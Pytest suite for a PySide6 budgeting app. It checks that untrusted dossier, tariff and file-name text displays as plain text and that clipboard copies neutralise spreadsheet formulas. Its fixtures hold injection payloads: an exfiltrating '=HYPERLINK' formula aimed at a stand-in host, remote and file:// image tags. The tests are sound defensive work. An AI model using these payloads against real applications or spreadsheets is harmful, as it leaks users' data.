"""F10, F11: whatever a dossier, a policy, a tariff file or a file name says is shown as text."""

import contextlib
import re
import socket
from collections.abc import Callable, Iterable, Iterator
from datetime import datetime
from functools import cache
from pathlib import Path
from types import SimpleNamespace
from typing import cast

import pytest
from PySide6 import QtGui
from PySide6.QtCore import QAbstractItemModel, QAbstractListModel, QModelIndex, Qt, QTimer, QUrl
from PySide6.QtGui import QAction, QGuiApplication, QTextDocument
from PySide6.QtTest import QTest
from PySide6.QtWidgets import (
    QAbstractItemView,
    QApplication,
    QLabel,
    QMessageBox,
    QTextBrowser,
    QToolTip,
    QWidget,
)

from app.resources import EXAMPLES
from app.services.cells import protected, unprotected
from app.services.dossiers import FileTrouble, Refused
from app.services.local_state import LeftBehind, Note, Unsaved
from app.store.dossier_file import read_dossier
from app.ui.budget.line_page import LinePage
from app.ui.documents import files
from app.ui.documents.desk import DocumentsDesk
from app.ui.explanation.tree_view import ExplanationTree
from app.ui.shell.file_menu import RecentMenu
from app.ui.shell.program import Program
from app.ui.shell.questions import Questions
from app.ui.shell.top_bar import Way
from app.ui.widgets.clipboard import PlainList
from app.ui.widgets.notice import Notice
from app.ui.widgets.words import Label, Paragraphs, says_yes, set_tip, show_tip, tip
from calc import Draft, Problem
from tests.app.ui.shell.answering import Build
from tests.hostile import hostile_draft, hostile_policy, hostile_tariffs

_MARK = "SENTINEL"
DIRECT = Qt.FindChildOption.FindDirectChildrenOnly
FORMULA = '=HYPERLINK("http://x.example/?"&A1;"SENTINEL")'


@pytest.fixture
def listening() -> Iterator[tuple[str, Callable[[], bool]]]:
    """A text that wants to draw a picture from here, and whether somebody came to fetch it."""
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        server.setblocking(False)
        port = server.getsockname()[1]

        def came() -> bool:
            with contextlib.suppress(BlockingIOError):
                server.accept()
                return True
            return False

        yield f'<b>{_MARK}</b><img src="http://127.0.0.1:{port}/x.png">', came


def _hostile(build: Build, tmp_path: Path, text: str, name: str = "HH1") -> Program:
    data = tmp_path / "data"
    hostile_tariffs(data, text)
    program = build(folder=data, organisation=hostile_policy(tmp_path, text))
    program.file.start(hostile_draft(_example(name), text))
    QApplication.processEvents()
    return program


def _example(name: str) -> Draft:
    draft = read_dossier(EXAMPLES / f"{name}.uitzicht.json")
    assert isinstance(draft, Draft)
    return draft


@cache
def _looks_rich(text: str) -> bool:
    """What Qt itself would take for markup."""
    return bool(QtGui.Qt.mightBeRichText(text))


@cache
def _is_plain(text: str, *, rich: bool) -> bool:
    """Whether every tag of the hostile text is words on the screen."""
    if _MARK not in text:
        return True
    if rich:
        document = QTextDocument()
        document.setHtml(text)
        text = document.toPlainText()
    return text.count(_MARK) == text.count(f"<b>{_MARK}<") and "\ufffc" not in text


def _tips_of(model: QAbstractItemModel, at: QModelIndex, left: list[int]) -> Iterator[str]:
    is_list = isinstance(model, QAbstractListModel)
    for row in range(model.rowCount(at)):
        for column in range(1 if is_list else model.columnCount(at)):
            left[0] -= 1
            if left[0] < 0:
                return
            index = model.index(row, column, at)
            yield str(index.data(Qt.ItemDataRole.ToolTipRole) or "")
        if not is_list:
            yield from _tips_of(model, model.index(row, 0, at), left)


def _wrong_in(root: QWidget) -> list[str]:
    return _wrong_of([root, *root.findChildren(QWidget)])


def _wrong_around(page: QWidget, window: QWidget) -> list[str]:
    """In a page and all that stands around it; not in the pages that were looked at before."""
    widgets, at = [page, *page.findChildren(QWidget)], page
    while at is not window:
        above = at.parentWidget()
        assert above is not None
        widgets.append(above)
        if at is not page:  # beside it are the other pages
            for beside in above.findChildren(QWidget, options=DIRECT):
                if beside is not at:
                    widgets += [beside, *beside.findChildren(QWidget)]
        at = above
    return _wrong_of(widgets)


def _wrong_of(widgets: Iterable[QWidget]) -> list[str]:
    wrong = []
    for widget in widgets:
        about = f"{type(widget).__name__} {widget.objectName()}"
        if isinstance(widget, QLabel):
            rich = widget.textFormat() == Qt.TextFormat.RichText
            if widget.textFormat() == Qt.TextFormat.AutoText:
                rich = _looks_rich(widget.text())
            if not _is_plain(widget.text(), rich=rich):
                wrong.append(f"{about}: {widget.text()[:300]}")
        if isinstance(widget, QTextBrowser):
            shown = widget.toPlainText()
            if shown.count(_MARK) != shown.count(f"<b>{_MARK}<") or "\ufffc" in shown:
                wrong.append(f"{about}: {shown[:300]}")
        tips = [widget.toolTip(), widget.statusTip(), widget.whatsThis()]
        tips += [action.toolTip() for action in widget.actions()]
        if isinstance(widget, QAbstractItemView) and widget.model() is not None:
            tips += _tips_of(widget.model(), QModelIndex(), [3_000])
        wrong += [
            f"tip of {about}: {text[:300]}"
            for text in tips
            if not _is_plain(text, rich=_looks_rich(text))
        ]
    return wrong


def _seen(root: QWidget) -> bool:
    return any(_MARK in label.text() for label in root.findChildren(QLabel))


@pytest.mark.parametrize("name", ["HH1", "HH3", "HH2-afgerond"])
def test_f10_every_page_shows_it_as_text(
    build: Build, tmp_path: Path, listening: tuple[str, Callable[[], bool]], name: str
) -> None:
    text, came = listening
    program = _hostile(build, tmp_path, text, name)
    wizard = program.window.wizard
    for place in range(wizard.stack.count()):
        wizard.open(place)
        QApplication.processEvents()
        for tree in wizard.page.findChildren(ExplanationTree):
            tree.expandToDepth(2)
            for row in range(tree.model().rowCount()):
                tree.setCurrentIndex(tree.model().index(row, 0))
        if isinstance(wizard.page, LinePage):
            for row in range(wizard.page.model.rowCount()):
                wizard.page.grid.choose([row])
        QApplication.processEvents()
        assert _wrong_around(wizard.page, program.window) == []
    assert _wrong_in(program.window) == []
    assert _seen(program.window)
    assert not came()


def test_f10_the_other_windows_show_it_as_text(
    build: Build, tmp_path: Path, listening: tuple[str, Callable[[], bool]]
) -> None:
    text, came = listening
    program = _hostile(build, tmp_path, text, "HH1-afgerond")
    texts = program.questions.texts
    tariffs = program.tariffs.show(texts)
    for place in range(tariffs.tabs.count()):
        tariffs.tabs.setCurrentIndex(place)
        QApplication.processEvents()
        assert _wrong_in(tariffs) == []
    shown = tariffs.values.detail
    for row in range(0, tariffs.values.table.seen.rowCount(), 25):
        tariffs.values.table.setCurrentIndex(tariffs.values.table.seen.index(row, 0))
        assert _wrong_in(shown) == []
    assert _MARK in shown.words.toPlainText()
    program.rule_tool.open(texts)
    assert program.rule_tool.window is not None
    assert _wrong_in(program.rule_tool.window) == []
    program.rule_tool.window.close()
    documents = DocumentsDesk(program.session, texts, program.window)
    documents.refresh()
    documents.own.setPlainText(text)
    documents.make_now()
    for kind in documents.offers.kinds:
        documents.offers.show_kind(kind)
        assert _wrong_in(documents) == []
    documents.deleteLater()
    assert not came()


def test_f10_a_tariff_file_that_is_set_aside_is_shown_as_text(
    build: Build, tmp_path: Path, listening: tuple[str, Callable[[], bool]]
) -> None:
    _, came = listening
    own = tmp_path / "data" / "tariffs"
    own.mkdir(parents=True)
    (own / "<b>SENTINEL<.b>.toml").write_text("'<b>SENTINEL</b>' = 1", encoding="utf-8")
    program = build(folder=tmp_path / "data")
    tariffs = program.tariffs.show(program.questions.texts)
    tariffs.show_files()
    QApplication.processEvents()
    shown = tariffs.files.aside.toPlainText()
    assert "<b>SENTINEL<.b>.toml" in shown
    assert "<b>SENTINEL</b>" in shown
    assert not came()


def _notices(questions: Questions, text: str) -> list[Callable[[], object]]:
    left = cast(LeftBehind, SimpleNamespace(changed=datetime(2026, 11, 23, 14, 5)))  # noqa: DTZ001
    path = Path(f"/map/{text}.uitzicht.json")
    problems = (Problem("unknown_key", text), Problem("file_not_a_number", "", (("value", text),)))
    trouble = FileTrouble("write", "failed", path)
    return [
        lambda: questions.save_first(text),
        lambda: questions.changed_elsewhere(path),
        lambda: questions.overwrite(path),
        lambda: questions.refused(Refused(path, problems)),
        lambda: questions.trouble(trouble),
        lambda: questions.not_saved(trouble),
        lambda: questions.settings((Note("unknown_key", text),)),
        lambda: questions.resume(left, Unsaved(Draft(), path, None)),
        lambda: questions.resume(left, problems),
        lambda: questions.notice(text, text, points=[text], verbatim=text).ask(),
    ]


def test_f10_every_notice_shows_it_as_text(
    lasting_program: Program, listening: tuple[str, Callable[[], bool]]
) -> None:
    text, came = listening
    text = text.replace("/", "\N{FRACTION SLASH}").replace("<\N{FRACTION SLASH}", "</")
    program = lasting_program
    questions = Questions(program.window, program.questions.texts)
    seen: list[str] = []
    wrong: list[str] = []

    def look() -> None:
        notice = QApplication.activeModalWidget()
        assert isinstance(notice, Notice)
        seen.append(notice.body.toPlainText())
        wrong.extend(_wrong_in(notice))
        notice.reject()

    asked = _notices(questions, text.replace("</b>", "<b>"))
    for ask in asked:
        QTimer.singleShot(0, look)
        ask()
    assert (len(seen), wrong) == (len(asked), [])
    assert all(f"<b>{_MARK}<b>" in shown for shown in seen)
    assert not came()


def test_f10_a_question_shows_it_as_text(lasting_program: Program) -> None:
    program = lasting_program
    seen: list[str] = []

    def look() -> None:
        box = QApplication.activeModalWidget()
        assert isinstance(box, QMessageBox)
        seen.append(box.text() if box.textFormat() == Qt.TextFormat.PlainText else "")
        box.button(QMessageBox.StandardButton.Yes).click()

    QTimer.singleShot(0, look)
    assert files.may_replace(program.questions.texts, [f"<b>{_MARK}</b>.pdf"], program.window)
    QTimer.singleShot(0, look)
    assert says_yes(program.window, "?", f"<b>{_MARK}</b>")
    assert all(f"<b>{_MARK}</b>" in shown for shown in seen)
    assert len(seen) == 2


def test_f10_the_menu_of_recent_files_shows_it_as_text(build: Build, tmp_path: Path) -> None:
    program = build()
    program.keeper.remember(tmp_path / f"<b>{_MARK}<b>.uitzicht.json")
    [menu] = program.window.menuBar().findChildren(RecentMenu)
    menu.fill()
    tips = [action.toolTip() for action in menu.actions()]
    assert any(_MARK in text for text in tips)
    for text in tips:
        document = QTextDocument()
        document.setHtml(text)
        assert _MARK not in text or f"<b>{_MARK}<b>" in document.toPlainText()


def test_f10_a_tip_that_looks_like_markup_is_words(lasting_program: Program) -> None:
    widget = QWidget(lasting_program.window)
    for text in (f"<b>{_MARK}</b>", f"x <img src='file:///x'>{_MARK}", f"<!-- {_MARK} -->"):
        set_tip(widget, text)
        document = QTextDocument()
        document.setHtml(widget.toolTip())
        assert document.toPlainText() == text
    for text in ("a & b", "gewoon", "", "a > b"):
        assert tip(text) == text
    assert "&lt;lt;" in tip("&lt;") or "&amp;lt;" in tip("&lt;")
    action = QAction(widget)
    set_tip(action, "<i>x</i>")
    assert "&lt;i&gt;" in action.toolTip()
    show_tip(widget.pos(), "<b>x</b>", widget)
    assert "&lt;b&gt;" in QToolTip.text() or QToolTip.text() == ""
    show_tip(widget.pos(), "", widget)


def test_f10_a_label_forgets_that_it_had_markup(lasting_program: Program) -> None:
    label = Label(lasting_program.window)
    label.show_address("https://bank.example/x")
    assert label.textFormat() == Qt.TextFormat.RichText
    label.show_address(f"javascript:{_MARK}")
    assert label.textFormat() == Qt.TextFormat.PlainText
    label.show_address("https://bank.example/x")
    label.setText(f"<b>{_MARK}</b>")
    assert label.textFormat() == Qt.TextFormat.PlainText
    assert Label(f"<b>{_MARK}</b>").textFormat() == Qt.TextFormat.PlainText


def test_f10_no_page_of_words_loads_anything(lasting_program: Program, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(_MARK, encoding="utf-8")
    words = Paragraphs(lasting_program.window)
    url = QUrl.fromLocalFile(str(secret))
    words.setHtml(f"<img src='{url.toString()}'>")
    for kind in ("ImageResource", "HtmlResource", "StyleSheetResource"):
        number = QTextDocument.ResourceType[kind].value
        assert not words.document().resource(number, url), kind


# -- F11: what goes to the clipboard ------------------------------------------------------------


def _copied() -> str:
    text = QGuiApplication.clipboard().text()
    QGuiApplication.clipboard().clear()
    assert text
    for cell in re.split(r"[\t\n]", text):
        assert protected(unprotected(cell)) == cell or cell.startswith('"'), cell
        assert not cell.strip().startswith(("=", "@")), cell
    return text


def test_f11_every_copy_leaves_as_text(build: Build, tmp_path: Path) -> None:
    program = _hostile(build, tmp_path, FORMULA, "HH1-afgerond")
    wizard, ctrl = program.window.wizard, Qt.KeyboardModifier.ControlModifier
    found = ""
    for place in range(wizard.stack.count()):
        wizard.open(place)
        QApplication.processEvents()
        for view in wizard.page.findChildren(QAbstractItemView):
            if view.model() is None or not view.model().rowCount() or not view.isVisible():
                continue
            view.setCurrentIndex(view.model().index(0, 0))
            if isinstance(wizard.page, LinePage):
                view.selectAll()
            view.setFocus()
            QTest.keyClick(view, Qt.Key.Key_C, ctrl)
            if QGuiApplication.clipboard().text():
                found += _copied()
    tariffs = program.tariffs.show(program.questions.texts)
    tariffs.values.table.copy()
    found += _copied()
    tariffs.values.table.copy_text()
    found += _copied()
    assert "'=HYPERLINK" in found
    assert ": =HYPERLINK" in found or "=HYPERLINK" in found


def test_f11_a_list_of_qt_copies_a_cell_as_text(lasting_program: Program) -> None:
    listed = PlainList(lasting_program.window)
    listed.addItem(f"{FORMULA}\n@x\t-1")
    listed.setCurrentRow(0)
    QTest.keyClick(listed, Qt.Key.Key_C, Qt.KeyboardModifier.ControlModifier)
    assert QGuiApplication.clipboard().text() == f"'{FORMULA}\n'@x\t-1"
    QGuiApplication.clipboard().clear()
    listed.setCurrentRow(-1)
    QTest.keyClick(listed, Qt.Key.Key_C, Qt.KeyboardModifier.ControlModifier)
    assert QGuiApplication.clipboard().text() == ""


@pytest.mark.parametrize(
    "text", [FORMULA, "+SENTINEL", "-SENTINEL", "@SUM(A1)", "'=x", "'s avonds", "-12,50x"]
)
def test_f11_our_own_copy_of_lines_is_pasted_as_it_was(lasting_program: Program, text: str) -> None:
    program = lasting_program
    program.file.start(hostile_draft(_example("HH1"), text))
    program.window.ways.show_way(Way.FORM)
    QApplication.processEvents()
    wizard = program.window.wizard
    wizard.open([page.key for page in wizard.kinds].index("expenses"))
    page = wizard.page
    assert isinstance(page, LinePage)
    before = program.session.draft.expenses
    page.grid.selectAll()
    page.commands.copy()
    _copied()
    page.grid.selectAll()
    page.commands.copy()
    page.grid.go_to_cell(page.model.new_row, 0)
    page.commands.paste()
    pasted = program.session.draft.expenses[len(before) :]
    assert [line.label for line in pasted] == [line.label for line in before]
    assert [line.amount for line in pasted] == [line.amount for line in before]
    QGuiApplication.clipboard().clear()
